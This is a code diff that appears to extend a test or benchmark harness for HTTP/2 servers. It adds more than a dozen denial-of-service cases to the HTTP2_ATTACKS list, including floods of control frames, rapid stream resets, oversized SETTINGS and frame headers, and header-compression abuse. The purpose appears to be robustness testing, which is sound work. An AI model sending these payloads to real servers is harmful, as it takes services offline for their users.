@@ -5,15 +5,19 @@ import {
   block,
   data,
   frame,
+  GET,
   get,
+  goaway,
   headers,
   hello,
   many,
   odd,
+  padded,
   ping,
   post,
   rstStream,
   settings,
+  settingsAck,
   unfinished,
   windowUpdate,
 } from './frames.ts'
@@ -33,6 +37,8 @@ function h2(name: string, run: (socket: Socket) => void, port: Origin = 'h2'): A
 }
 
 const pings = many(200, () => ping())
+const PING_ACK = frame(6, 1, 0, Buffer.alloc(8))
+const PSEUDO = block(GET)
 const largeHead = (id: number): Buffer => {
   const value = 'v'.repeat(8_000)
   const fields = Array.from({ length: 12 }, () => ['x-large', value] as const)
@@ -46,24 +52,12 @@ const largeHead = (id: number): Buffer => {
 const bomb = (id: number): Buffer => {
   const value = Buffer.alloc(3_900, 'b')
   const insert = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xbd, 0x1d]), value])
-  const pseudo = block([
-    [':method', 'GET'],
-    [':scheme', 'http'],
-    [':path', '/'],
-    [':authority', 'bench'],
-  ])
-  return frame(1, 5, id, Buffer.concat([pseudo, insert, Buffer.alloc(12_000, 0xbe)]))
+  return frame(1, 5, id, Buffer.concat([PSEUDO, insert, Buffer.alloc(12_000, 0xbe)]))
 }
 /** A block of small fields, each put into the table. */
 const churn = (id: number): Buffer => {
-  const pseudo = block([
-    [':method', 'GET'],
-    [':scheme', 'http'],
-    [':path', '/'],
-    [':authority', 'bench'],
-  ])
   const fields = many(200, (n) => Buffer.from([0x40, 2, 0x78, 97 + (n % 26), 2, 65 + (n % 26), 65 + (id % 26)]))
-  return frame(1, 5, id, Buffer.concat([pseudo, fields]))
+  return frame(1, 5, id, Buffer.concat([PSEUDO, fields]))
 }
 
 export const HTTP2_ATTACKS: readonly Attack[] = [
@@ -81,6 +75,20 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   }),
   h2('PRIORITY', (socket) => flood(socket, () => many(500, (n) => frame(2, 0, odd(n), Buffer.alloc(5, 1))))),
   h2('frames of an unknown type', (socket) => flood(socket, () => many(500, () => frame(0xbb, 0, 0)))),
+  h2('acknowledgements', (socket) => flood(socket, () => many(300, () => Buffer.concat([settingsAck, PING_ACK])))),
+  h2('GOAWAY', (socket) => flood(socket, () => many(300, () => goaway(0, 0)))),
+  h2('RST_STREAM of a stream that is gone', (socket) => {
+    socket.write(Buffer.concat([get(1), rstStream(1, 8)]))
+    flood(socket, () => many(500, () => rstStream(1, 8)))
+  }),
+  h2('a SETTINGS frame of 2,000 parameters', (socket) =>
+    socket.write(settings(Array.from({ length: 2_000 }, () => [INITIAL_WINDOW, 65_535] as const))),
+  ),
+  h2('a frame of 16 MB', (socket) => socket.write(Buffer.from('ffffff000100000001', 'hex'))),
+  h2('DATA of padding alone', (socket) => {
+    socket.write(post(1))
+    flood(socket, () => many(50, () => padded(1, 0, 255)))
+  }),
   h2('CONTINUATION', (socket) => {
     socket.write(unfinished(1))
     flood(socket, () => many(500, () => frame(9, 0, 1)))
@@ -99,6 +107,27 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
       many(100, (n) => Buffer.concat([post(odd(round * 100 + n)), windowUpdate(odd(round * 100 + n), 0)])),
     ),
   ),
+  h2('resets provoked by a window beyond 2^31-1', (socket) =>
+    flood(socket, (round) =>
+      many(100, (n) => Buffer.concat([post(odd(round * 100 + n)), windowUpdate(odd(round * 100 + n), 0x7fff_ffff)])),
+    ),
+  ),
+  h2('resets provoked by content behind the end', (socket) =>
+    flood(socket, (round) =>
+      many(100, (n) => Buffer.concat([get(odd(round * 100 + n)), data(odd(round * 100 + n), 1)])),
+    ),
+  ),
+  h2('resets provoked by PRIORITY of four bytes', (socket) =>
+    flood(socket, (round) =>
+      many(100, (n) => Buffer.concat([post(odd(round * 100 + n)), frame(2, 0, odd(round * 100 + n), Buffer.alloc(4))])),
+    ),
+  ),
+  h2('heads of 1,000 fields without name and value', (socket) =>
+    flood(socket, (round) => frame(1, 5, odd(round), Buffer.concat([PSEUDO, Buffer.alloc(3_000)]))),
+  ),
+  h2('heads of 8,000 table size updates', (socket) =>
+    flood(socket, (round) => frame(1, 5, odd(round), Buffer.concat([Buffer.alloc(8_000, 0x20), PSEUDO]))),
+  ),
   h2('malformed heads', (socket) =>
     flood(socket, (round) => many(100, (n) => headers(odd(round * 100 + n), [[':method', 'GET']]))),
   ),
@@ -116,12 +145,26 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
     const bytes = ping()
     floodInPieces(socket, (round) => bytes.subarray(round % bytes.length, (round % bytes.length) + 1))
   }),
+  h2('content of one byte per frame', (socket) => {
+    socket.write(post(1))
+    flood(socket, () => many(500, () => data(1, 1)))
+  }),
   h2('half a frame', (socket) => socket.write(ping().subarray(0, 12))),
   h2('5,000 streams that never end', (socket) => socket.write(many(5_000, (n) => post(odd(n))))),
   h2('requests without reading', (socket) => {
     socket.pause()
     flood(socket, (round) => many(100, (n) => get(odd(round * 100 + n))))
   }),
+  h2(
+    '100 responses of 1 MB in open windows without reading',
+    (socket) => {
+      socket.pause()
+      socket.write(settings([[INITIAL_WINDOW, 0x7fff_ffff]]))
+      socket.write(windowUpdate(0, 0x7fff_ffff - 65_535))
+      socket.write(many(100, (n) => get(odd(n))))
+    },
+    'h2Bulk',
+  ),
   h2('PING without reading', (socket) => {
     socket.pause()
     flood(socket, () => pings)
